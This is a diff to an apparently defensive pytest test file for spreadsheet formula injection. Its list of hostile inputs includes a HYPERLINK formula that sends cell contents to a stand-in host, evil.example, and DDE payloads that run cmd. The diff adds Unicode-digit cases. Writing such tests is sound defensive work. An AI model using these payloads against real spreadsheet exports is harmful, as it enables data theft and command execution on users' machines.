@@ -20,7 +20,8 @@ from tests.service.helpers import ADMIN, log, seed
 ROOT = Path(__file__).resolve().parent.parent
 DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r")
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0",
-           "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+           "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
+           "-١٢", "+１"]  # no number a spreadsheet reads as one: only 0-9 are (issue 27.6)
 
 
 @pytest.mark.parametrize("text", HOSTILE)
